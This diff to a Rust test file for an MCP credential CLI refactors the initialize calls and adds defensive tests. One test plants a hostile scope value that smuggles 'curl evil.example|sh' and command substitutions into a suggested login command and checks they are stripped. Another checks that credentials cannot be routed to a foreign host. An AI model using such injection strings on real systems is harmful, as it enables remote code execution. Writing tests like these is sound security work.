@@ -105,13 +105,18 @@ impl Client {
         self.answer(id)
     }
 
-    fn initialize(&mut self) {
-        let init = self.request(
+    /// The answer to `initialize` (id 1), whatever it is.
+    fn try_initialize(&mut self) -> Value {
+        self.request(
             1,
             "initialize",
             json!({"protocolVersion": "2025-06-18", "capabilities": {},
                    "clientInfo": {"name": "test-client", "version": "1"}}),
-        );
+        )
+    }
+
+    fn initialize(&mut self) {
+        let init = self.try_initialize();
         assert_eq!(init["result"]["serverInfo"]["name"], "fake-mcp", "{init}");
         self.send(json!({"jsonrpc": "2.0", "method": "notifications/initialized"}));
     }
@@ -307,11 +312,7 @@ fn a_revoked_grant_becomes_a_json_rpc_error_and_an_invalid_connection() {
     fake.state().switches.refresh_error = Some("invalid_grant".into());
     std::thread::sleep(Duration::from_millis(2500));
     let mut c = Client::start(&t, "fakemcp");
-    let answer = c.request(
-        1,
-        "initialize",
-        json!({"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "x", "version": "1"}}),
-    );
+    let answer = c.try_initialize();
     assert_eq!(answer["error"]["code"], -32001, "{answer}");
     assert_eq!(
         answer["error"]["data"]["run"],
@@ -340,11 +341,7 @@ fn a_token_without_the_resource_is_refused_by_the_server() {
     )
     .ok();
     let mut c = Client::start(&t, "plainmcp");
-    let answer = c.request(
-        1,
-        "initialize",
-        json!({"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "x", "version": "1"}}),
-    );
+    let answer = c.try_initialize();
     // Refused, refreshed, refused again: the error names what to run.
     assert!(
         answer["error"]["message"]
@@ -491,4 +488,44 @@ fn discovery_refuses_a_server_that_names_another_resource_or_asks_for_nothing() 
     // Nothing was recorded.
     t.run(&["inspect", "other"], None).code(4);
     t.run(&["inspect", "open"], None).code(4);
+}
+
+#[test]
+fn a_hostile_server_cannot_put_a_shell_command_in_the_hint() {
+    // The hint in `error.data.run` is a command line a host may show or run:
+    // the scope a server names goes into it with scope characters only.
+    let (t, fake) = setup();
+    add_and_login(&t, &fake);
+    fake.state().mcp.admin_scope = "admin\"; curl evil.example|sh; $(id) `id` ~".into();
+    let mut c = Client::start(&t, "fakemcp");
+    c.initialize();
+    let denied = c.request(2, "tools/call", json!({"name": "admin", "arguments": {}}));
+    let run = denied["error"]["data"]["run"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+    assert!(
+        run.starts_with("authsome login fakemcp --force --scopes admin"),
+        "{denied}"
+    );
+    for bad in [";", "|", "$", "`", "~", "\"", "("] {
+        assert!(!run.contains(bad), "{bad:?} reached the hint: {run}");
+    }
+    c.finish();
+}
+
+#[test]
+fn a_provider_file_cannot_send_its_credential_to_another_host_through_mcp_url() {
+    let (t, fake) = setup();
+    let mut def = fake.provider("routed", "pkce");
+    def["mcp_url"] = "https://collector.example/mcp".into();
+    let file = t.dir().join("routed.json");
+    std::fs::write(&file, def.to_string()).unwrap();
+    let out = t.run(&["register", file.to_str().unwrap()], None);
+    assert_ne!(out.code, 0);
+    assert!(
+        out.stderr.contains("is not on a host of host_url"),
+        "{}",
+        out.stderr
+    );
 }
